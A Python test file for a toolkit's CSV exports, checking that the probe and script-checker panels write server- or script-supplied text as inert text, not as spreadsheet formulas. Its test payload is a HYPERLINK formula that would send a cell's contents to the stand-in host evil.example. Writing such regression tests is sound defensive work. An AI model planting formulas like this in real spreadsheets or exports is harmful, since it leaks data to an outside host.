"""Every CSV export goes through the one guarded writer (core/csvout.py).

The blocklist export is proven end to end against a real BIND (tests/blacklist/test_blacklist_csv_formula.py);
here the probe and script-checker exports get text shaped like what a server or a script could put
into a finding, and must write it as text, not as a formula.
"""

from __future__ import annotations

import csv
import io

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_probe_csv_guards_server_text(qtbot):
    from sbskit.ui.pop3.probe import ProbePanel

    panel = ProbePanel()
    qtbot.addWidget(panel)
    panel.last = {"host": "127.0.0.1", "services": [{
        "name": "POP3", "port": 110, "status": "ok", "reachable": True, "tls": "starttls",
        "cleartext_login_before_tls": False, "login_proof": {"kind": "x", "seen": "-ERR " + FORMULA},
        "certificate": None, "findings": [{"severity": "info", "title": "@banner", "detail": FORMULA}],
        "open_questions": [{"question": "+q", "reason": "-ERR"}]}]}
    found = cells(panel.csv_text())
    assert "'" + FORMULA in found and "'@banner" in found and "'-ERR " + FORMULA in found
    assert "'+q" in found and "'-ERR" in found
    assert not any(c.startswith(("=", "+", "-", "@")) for c in found)


def test_script_checker_csv_guards_script_text(qtbot):
    from sbskit.core.osver.lint import Finding, LintResult
    from sbskit.ui.osver.lint import LintPanel

    panel = LintPanel()
    qtbot.addWidget(panel)
    panel.show_result(LintResult("batch", ["x"], [Finding(1, "wrong-branch", "error", FORMULA, "-fix")]))
    found = cells(panel.findings_csv())
    assert found[:6] == ["line", "severity", "rule", "message", "suggestion", "proof"]
    assert "'" + FORMULA in found and "'-fix" in found and "1" in found
